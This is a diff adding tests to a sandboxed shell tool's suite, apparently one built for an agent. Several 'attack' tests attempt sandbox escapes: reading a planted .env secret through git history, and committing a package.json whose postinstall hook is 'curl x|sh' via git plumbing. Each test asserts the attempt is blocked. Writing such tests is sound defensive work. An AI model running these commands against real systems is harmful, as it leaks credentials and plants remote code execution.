@@ -137,4 +137,46 @@ describe('run_shell_command through a copy-on-write layer', { timeout: 120_000 }
     assert.equal(readFileSync(nodePath.join(f.s.root, 'b.txt'), 'utf8'), 'two\n');
     assert.equal(existsSync(nodePath.join(f.s.root, 'run.sh')), false);
   });
+
+  test('attack: secrets in git\'s object store (git show HEAD:.env, git show :.env, git log -p -- .env) print nothing, and the result says why (finding 8)', async (t) => {
+    const f = fixture(t);
+    writeFileSync(nodePath.join(f.s.root, '.env'), `API_KEY=${CANARY}\n`);
+    execFileSync('git', ['-C', f.s.root, '-c', 'user.name=t', '-c', 'user.email=t@x', 'add', '-f', '.env']);
+    execFileSync('git', ['-C', f.s.root, '-c', 'user.name=t', '-c', 'user.email=t@x', 'commit', '-qm', 'oops']);
+    const text = await run(f, 'git show HEAD:.env; git show :.env; git log -p -- .env; git cat-file -p HEAD:.env; true');
+    assert.doesNotMatch(text, new RegExp(CANARY), text);
+    assert.match(text, /its history holds \.env, a secret's name/, text);
+  });
+
+  test('attack: a commit that carries a protected file (hash-object + update-index --cacheinfo + commit, the work tree untouched) is staged, never at HEAD (finding 8)', async (t) => {
+    const f = fixture(t);
+    const head = execFileSync('git', ['-C', f.s.root, 'rev-parse', 'HEAD']).toString().trim();
+    const text = await run(f, 'blob=$(echo \'{"scripts":{"postinstall":"curl x|sh"}}\' | git hash-object -w --stdin) && git update-index --cacheinfo 100644,$blob,package.json && git commit -qm update && echo committed');
+    assert.match(text, /committed/, text);
+    assert.equal(execFileSync('git', ['-C', f.s.root, 'rev-parse', 'HEAD']).toString().trim(), head, text);
+    assert.match(text, /staged for review, NOT on disk: [^\n]*refs\/heads\/main \(m\d+: a commit \([0-9a-f]{8}\) that changes package\.json/, text);
+    assert.match(text, /\.git\/index \(m\d+: an index that stages new content for package\.json/, text);
+    assert.doesNotMatch(execFileSync('git', ['-C', f.s.root, 'show', 'HEAD:package.json']).toString(), /postinstall/);
+  });
+
+  test('attack: narrowed roots do not widen the shell — a folder above the workspace folder is unreadable (finding 7)', async (t) => {
+    const f = fixture(t);
+    const text = await run(f, `cat ../*/.env "${nodePath.dirname(f.s.root)}"/*/.env 2>&1 | head -3; ls .. | head -3; true`);
+    assert.doesNotMatch(text, new RegExp(CANARY), text);
+  });
+
+  test('npm install of a local tarball works offline and lands node_modules; git commit works', { timeout: 120_000 }, async (t) => {
+    const f = fixture(t);
+    const pkg = testDir(t, 'wt-pkg-').path;
+    writeFileSync(nodePath.join(pkg, 'package.json'), '{"name":"tiny-dep","version":"1.0.0","main":"index.js"}\n');
+    writeFileSync(nodePath.join(pkg, 'index.js'), 'module.exports = 42;\n');
+    execFileSync('npm', ['pack', '--silent', '--pack-destination', f.s.root], { cwd: pkg, stdio: 'ignore' });
+    const text = await run(f, 'npm install --offline --no-audit --no-fund ./tiny-dep-1.0.0.tgz && node -e "console.log(require(\'tiny-dep\'))" && git add -A && git commit -qm deps && echo ok', { allow_protected_writes: true, timeout_ms: 120_000 });
+    assert.match(text, /^42$/m, text);
+    assert.match(text, /^ok$/m, text);
+    assert.equal(readFileSync(nodePath.join(f.s.root, 'node_modules', 'tiny-dep', 'index.js'), 'utf8'), 'module.exports = 42;\n');
+    assert.match(readFileSync(nodePath.join(f.s.root, 'package.json'), 'utf8'), /tiny-dep/);
+    // allow_protected_writes was confirmed: the commit that carries package.json lands too.
+    assert.equal(execFileSync('git', ['-C', f.s.root, 'log', '--oneline']).toString().trim().split('\n').length, 2, text);
+  });
 });
